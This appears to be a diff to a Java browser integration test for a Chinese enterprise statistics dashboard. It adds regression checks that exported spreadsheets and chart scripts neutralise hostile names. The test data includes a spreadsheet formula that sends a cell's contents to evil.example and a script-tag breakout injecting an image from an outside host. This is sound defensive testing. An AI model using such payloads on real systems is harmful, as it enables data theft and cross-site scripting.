@@ -33,6 +33,9 @@ class StatisticsDashboardJourneyIT {
     static Browser browser = new Browser();
 
     private static final String PASSWORD = "Dashboard#2026";
+    private static final String ZONE = "630190";
+    private static final String BREAKOUT = "区</script><img id=probe src=//e.ex/p.gif>";
+    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")";
 
     @Deployment(testable = false)
     static EnterpriseArchive deployment() {
@@ -44,10 +47,16 @@ class StatisticsDashboardJourneyIT {
         DataSource database = TestData.fromTestJvm();
         TestData data = new TestData(database);
         DiagnosisRows diagnoses = new DiagnosisRows(database);
-        for (int i = 0; i < 4; i++) {
+        for (int i = 0; i < 3; i++) {
             diagnoses.completed(data.enterprise(TestData.unique("城东企业"), "630102"), data.regionPath("630102"));
         }
+        // enterprise names are free text: one typed as a spreadsheet formula (issue 25, finding 2)
+        diagnoses.completed(data.enterprise(TestData.unique(FORMULA + "城东企业"), "630102"), data.regionPath("630102"));
         data.enterprise(TestData.unique("城中企业"), "630103");
+        // a development zone whose name tries to break out of the chart's script (issue 25, finding 3), with an
+        // enterprise registered there, so that the zone is one of 西宁市's regions on its page and in its chart
+        data.zone(ZONE, BREAKOUT, "630100");
+        data.enterprise(TestData.unique("园区企业"), ZONE);
         String support = data.newUser("dashsupport", PASSWORD, "SUPPORT", null, null);
         String admin = data.newUser("qinghai", PASSWORD, "REGION_ADMIN", null, "630000");
         Thread.sleep(1_100); // the run's as-of (whole seconds) after the completions
@@ -74,15 +83,33 @@ class StatisticsDashboardJourneyIT {
         browser.signIn(admin, PASSWORD, "zh_CN");
         browser.click(By.id("nav-statistics"));
         assertThat(browser.waitFor(By.id("headline-title")).getText()).isEqualTo("青海省");
-        assertThat(browser.driver().findElement(By.id("registered")).getText()).isEqualTo("5");
+        assertThat(browser.driver().findElement(By.id("registered")).getText()).isEqualTo("6");
         assertThat(browser.driver().findElement(By.id("diagnosed")).getText()).isEqualTo("4");
-        assertThat(browser.driver().findElement(By.id("coverage")).getText()).isEqualTo("80.0%");
+        assertThat(browser.driver().findElement(By.id("coverage")).getText()).isEqualTo("66.7%");
         assertThat(browser.driver().findElement(By.id("average")).getText()).isEqualTo("1.00");
         browser.screenshot("statistics-dashboard-province");
         for (String section : new String[] {"children-title", "subdomains-title", "industries-title"}) {
             ((org.openqa.selenium.JavascriptExecutor) browser.driver())
                     .executeScript("document.getElementById(arguments[0]).scrollIntoView()", section);
             browser.screenshot("statistics-dashboard-province-" + section);
+        }
+        // the sub-domain table's columns are the sub-domain, the province and the nation — not the request's headers
+        // (issue 25, finding 1), on the page and in both exports
+        List<String> columns = browser.driver().findElements(By.cssSelector("#subdomains thead th")).stream()
+                .map(org.openqa.selenium.WebElement::getText).toList();
+        assertThat(columns).containsExactly("能力子域", "青海省", "全国");
+        browser.click(By.id("subdomains-export:csv"));
+        Path subDomainsCsv = Browser.downloaded("subdomains-630000", ".csv", Duration.ofSeconds(30));
+        browser.checkNoLeak(subDomainsCsv);
+        assertThat(java.nio.file.Files.readAllLines(subDomainsCsv, java.nio.charset.StandardCharsets.UTF_8).get(0).replace("\uFEFF", ""))
+                .isEqualTo("\"能力子域\",\"青海省\",\"全国\"");
+        browser.click(By.id("subdomains-export:xlsx"));
+        Path subDomainsExcel = Browser.downloaded("subdomains-630000", ".xlsx", Duration.ofSeconds(30));
+        browser.checkNoLeak(subDomainsExcel);
+        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(java.nio.file.Files.newInputStream(subDomainsExcel))) {
+            var header = workbook.getSheetAt(0).getRow(0);
+            assertThat(List.of(header.getCell(0).getStringCellValue(), header.getCell(1).getStringCellValue(),
+                    header.getCell(2).getStringCellValue())).containsExactly("能力子域", "青海省", "全国");
         }
 
         // the list of the province's enterprises, filtered, exported to Excel: the file holds the rows shown
@@ -99,36 +126,54 @@ class StatisticsDashboardJourneyIT {
         browser.screenshot("statistics-dashboard-list");
         browser.click(By.id("list-export:xlsx"));
         Path excel = Browser.downloaded("enterprises-630000", ".xlsx", Duration.ofSeconds(30));
+        browser.checkNoLeak(excel);
         try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(java.nio.file.Files.newInputStream(excel))) {
             var sheet = workbook.getSheetAt(0);
             assertThat(sheet.getLastRowNum()).as("a header and the 4 rows shown").isEqualTo(4);
             assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("企业名称");
             for (int row = 1; row <= 4; row++) {
-                assertThat(sheet.getRow(row).getCell(0).getStringCellValue()).startsWith("城东企业");
+                // (Excel keeps a name as a string cell, which a spreadsheet never runs)
+                assertThat(sheet.getRow(row).getCell(0).getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+                assertThat(sheet.getRow(row).getCell(0).getStringCellValue()).matches("(\\Q" + FORMULA + "\\E)?城东企业\\d+");
                 assertThat(sheet.getRow(row).getCell(1).getStringCellValue()).isEqualTo("青海省 西宁市 城东区");
                 assertThat(sheet.getRow(row).getCell(4).getStringCellValue()).startsWith("一级");
             }
         }
         browser.click(By.id("list-export:csv"));
         Path csv = Browser.downloaded("enterprises-630000", ".csv", Duration.ofSeconds(30));
+        browser.checkNoLeak(csv);
         List<String> lines = java.nio.file.Files.readAllLines(csv, java.nio.charset.StandardCharsets.UTF_8);
         assertThat(lines).hasSize(5);
         assertThat(lines.get(1)).contains("城东企业").contains("城东区").contains("一级");
+        // the formula reaches the spreadsheet as text: a quote before it, inside the cell's quotes
+        assertThat(lines).anySatisfy(line -> assertThat(line).startsWith("\"'" + FORMULA.replace("\"", "\"\"")));
+        assertThat(lines).noneSatisfy(line -> assertThat(line).startsWith("\"="));
 
         // the regions table as shown: the province's one city with its figures
         browser.click(By.id("children-export:xlsx"));
         Path regions = Browser.downloaded("regions-630000", ".xlsx", Duration.ofSeconds(30));
+        browser.checkNoLeak(regions);
         try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(java.nio.file.Files.newInputStream(regions))) {
             var sheet = workbook.getSheetAt(0);
             assertThat(sheet.getLastRowNum()).isEqualTo(1);
             assertThat(sheet.getRow(1).getCell(0).getStringCellValue()).isEqualTo("西宁市");
             var text = new org.apache.poi.ss.usermodel.DataFormatter();
-            assertThat(text.formatCellValue(sheet.getRow(1).getCell(1))).isEqualTo("5");
+            assertThat(text.formatCellValue(sheet.getRow(1).getCell(1))).isEqualTo("6");
             assertThat(text.formatCellValue(sheet.getRow(1).getCell(2))).isEqualTo("4");
         }
 
         browser.click(By.linkText("西宁市"));
         assertThat(browser.waitFor(By.id("headline-title")).getText()).isEqualTo("西宁市");
+        // the zone's name is a label of the city's chart and a row of its table, as text: no element came of it (and
+        // the browser loaded nothing from elsewhere, which the CSP check after the test would report)
+        assertThat(browser.driver().findElement(By.id("children")).getText()).contains(BREAKOUT);
+        assertThat(browser.driver().findElements(By.id("probe"))).isEmpty();
+        // the page as the server sent it (the browser's document no longer holds the chart's script): the name in the
+        // chart's configuration is escaped, nowhere raw
+        String sent = org.cmmm.it.Http.get("statistics/index.xhtml?region=630100", "Cookie", "JSESSIONID="
+                + browser.driver().manage().getCookieNamed("JSESSIONID").getValue() + "; cmmm_lang=zh_CN").body();
+        assertThat(sent).contains("\\u003c/script\\u003e\\u003cimg id=probe").doesNotContain("</script><img id=probe");
+        browser.screenshot("statistics-dashboard-city-breakout");
         browser.click(By.linkText("城东区"));
         assertThat(browser.waitFor(By.id("headline-title")).getText()).isEqualTo("城东区");
         assertThat(browser.driver().findElement(By.id("diagnosed")).getText()).isEqualTo("4");
